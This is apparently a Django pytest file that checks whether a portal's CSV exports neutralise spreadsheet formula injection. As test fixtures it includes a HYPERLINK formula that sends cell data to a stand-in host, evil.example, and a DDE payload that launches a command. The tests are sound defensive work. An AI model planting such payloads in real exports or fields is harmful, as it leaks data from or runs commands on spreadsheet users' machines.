"""Issue 17, item 7: no CSV the portal writes carries a cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
from io import StringIO

import pytest
from django.core.management import call_command
from django.urls import reverse

from engagements.actions.tasks import add_comment
from psaas_portal import csvsafe
from raci.models import TemplateTask
from raci.services import load_seed_template

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    "cell, safe",
    [
        ("=1+1", "'=1+1"),
        ("+41 22", "'+41 22"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("plain", "plain"),
        ("", ""),
        ("R, A - Auth0", "R, A - Auth0"),
    ],
)
def test_cells_are_neutralised_and_restored(cell, safe):
    assert csvsafe.neutralise(cell) == safe
    assert csvsafe.restore(safe) == cell
    assert csvsafe.neutralise(7) == 7


def _cells(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


def test_the_engagement_matrix_export_quotes_a_formula_task_name(client_for, engagement_a, cse):
    engagement_a.tasks.filter(key="monitoring").update(name=FORMULA, notes="-1+2")
    response = client_for(cse).get(reverse("engagements:export-matrix", args=[engagement_a.pk]))
    content = b"".join(response.streaming_content).decode()
    cells = _cells(content)
    assert "'" + FORMULA in cells and "'-1+2" in cells
    assert not [c for c in cells if c.startswith(csvsafe.DANGEROUS)]


def test_the_audit_trail_export_quotes_formulas(client_for, engagement_a, cse, engineer_a):

    task = engagement_a.tasks.get(key="monitoring", environment="")
    add_comment(task, body="=cmd|' /C calc'!A0", actor=engineer_a)
    response = client_for(cse).get(reverse("engagements:export-events", args=[engagement_a.pk]))
    cells = _cells(b"".join(response.streaming_content).decode())
    assert not [c for c in cells if c.startswith(csvsafe.DANGEROUS)]


def test_the_template_csv_export_quotes_formulas_and_reads_back(tmp_path):
    version = load_seed_template()
    TemplateTask.objects.filter(version=version).filter(pk=version.tasks.first().pk).update(
        name=FORMULA
    )
    out = StringIO()
    call_command("raci_matrix", "--format", "csv", stdout=out)
    exported = out.getvalue()
    cells = _cells(exported)
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(csvsafe.DANGEROUS)]
    path = tmp_path / "m.csv"
    path.write_text(exported)
    call_command("import_raci_template", str(path), "--name", "Round trip", stdout=StringIO())
    assert TemplateTask.objects.filter(version__template__name="Round trip", name=FORMULA).exists()
